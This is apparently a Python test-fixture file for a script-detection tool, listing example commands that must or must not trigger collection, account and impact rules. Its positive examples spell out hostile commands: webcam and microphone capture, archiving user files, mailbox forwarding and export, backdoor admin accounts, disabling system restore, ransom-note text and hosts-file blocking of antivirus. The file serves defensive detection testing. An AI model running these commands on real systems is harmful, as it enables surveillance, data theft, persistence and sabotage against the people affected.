"""Examples for the collection, account and impact `TWN-` rules; all synthetic, for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PS = Lang.POWERSHELL
BAT = Lang.BATCH
SH = Lang.BASH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    ("TWN-240", BAT, "psr.exe /start /output C:\\Users\\Public\\a.zip /sc 1 /gui 0"),
    ("TWN-240", BAT, "nircmd.exe savescreenshot C:\\Users\\Public\\s.png"),
    (
        "TWN-241",
        PS,
        'reg delete "HKEY_CURRENT_USER\\Software\\Policies\\Microsoft\\Windows\\WindowsAI" /v'
        " DisableAIDataAnalysis /f",
    ),
    (
        "TWN-241",
        BAT,
        'reg add "HKCU\\Software\\Policies\\Microsoft\\Windows\\WindowsAI" /v DisableAIDataAnalysis'
        " /t REG_DWORD /d 0 /f",
    ),
    (
        "TWN-242",
        PS,
        "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\"
        "CapabilityAccessManager\\ConsentStore\\microphone\\NonPackaged\\*",
    ),
    ("TWN-242", SH, "ffmpeg -f avfoundation -i :0 -t 10 /tmp/a.wav"),
    ("TWN-242", SH, "arecord -d 10 -f cd /tmp/rec.wav"),
    ("TWN-243", SH, "ffmpeg -f v4l2 -i /dev/video0 -frames 1 /tmp/cam.jpg"),
    ("TWN-243", SH, "imagesnap -w 1 /tmp/cam.jpg"),
    ("TWN-244", PS, "Compress-Archive -Path C:\\data -DestinationPath D:\\backup\\data.zip"),
    (
        "TWN-245",
        PS,
        'Compress-Archive -Path $env:USERPROFILE\\Documents -DestinationPath "$env:TEMP\\d.zip"',
    ),
    ("TWN-246", BAT, "rar.exe a -r C:\\Users\\Public\\d.rar C:\\Users\\bob\\Documents"),
    ("TWN-246", BAT, "makecab C:\\data\\a.txt C:\\Users\\Public\\a.cab"),
    ("TWN-246", SH, "tar -cvzf /tmp/loot.tgz /home/bob"),
    ("TWN-246", SH, "zip /tmp/logs.zip /var/log/wtmp /var/log/btmp"),
    ("TWN-247", BAT, "copy %LOCALAPPDATA%\\Microsoft\\Outlook\\bob.ost C:\\Users\\Public\\"),
    ("TWN-248", PS, "New-MailboxExportRequest -Mailbox ceo -FilePath \\\\srv\\s\\ceo.pst"),
    ("TWN-249", PS, "New-InboxRule -Name sync -Mailbox ceo -ForwardTo a@example.org"),
    ("TWN-249", PS, "Set-Mailbox -Identity ceo -ForwardingSmtpAddress a@example.org"),
    ("TWN-250", PS, "New-InboxRule -Name hide -SubjectContainsWords invoice -DeleteMessage $true"),
    (
        "TWN-251",
        BAT,
        "for /R c: %f in (*.docx) do copy %f %temp%\\collect",
    ),
    ("TWN-251", BAT, "dir c: /b /s .docx | findstr /e .docx"),
    ("TWN-252", BAT, "net user guest /active:yes"),
    ("TWN-253", BAT, "net user support$ P@ssw0rd! /add"),
    ("TWN-254", BAT, "net user svc_new P@ssw0rd! /add /domain"),
    ("TWN-254", PS, "New-ADUser -Name backdoor -AccountPassword $pw -Enabled $true"),
    ("TWN-255", BAT, 'net group "Domain Admins" backdoor /add /domain'),
    ("TWN-255", PS, "Add-ADGroupMember -Identity 'Domain Admins' -Members backdoor"),
    ("TWN-256", BAT, "net user AtomicUser /delete"),
    ("TWN-256", PS, "Set-LocalUser -Name bob -Password $new"),
    ("TWN-257", BAT, '""%PROGRAMFILES%\\dcrypt"\\dcrypt.exe"'),
    ("TWN-257", BAT, "manage-bde -on C: -pw -used"),
    ("TWN-258", PS, 'Disable-ComputerRestore -Drive "C:\\"'),
    (
        "TWN-258",
        BAT,
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR /t'
        " REG_DWORD /d 1 /f",
    ),
    ("TWN-258", BAT, "reagentc.exe /disable"),
    (
        "TWN-259",
        BAT,
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System" /v'
        ' LegalNoticeText /t REG_SZ /d "Your files are encrypted" /f',
    ),
    ("TWN-260", BAT, "sdelete.exe -accepteula -p 3 C:\\Users\\Public\\*.log"),
    (
        "TWN-261",
        BAT,
        "echo 127.0.0.1 update.vendor.example >> C:\\Windows\\System32\\drivers\\etc\\hosts",
    ),
    ("TWN-261", SH, "echo '127.0.0.1 av.example' | sudo tee -a /etc/hosts"),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (BAT, "net user guest /active:no\nnet user jdoe /domain"),
    (BAT, 'net group "Domain Admins" /domain'),
    (PS, "Compress-Archive -Path .\\logs -DestinationPath .\\logs.zip\nNew-ADUser -Name jdoe"),
    (
        BAT,
        'reg add "HKCU\\Software\\Policies\\Microsoft\\Windows\\WindowsAI" /v DisableAIDataAnalysis'
        " /t REG_DWORD /d 1 /f",
    ),
    (BAT, "manage-bde -status C:\nmanage-bde -on C: -RecoveryPassword -SkipHardwareTest"),
)
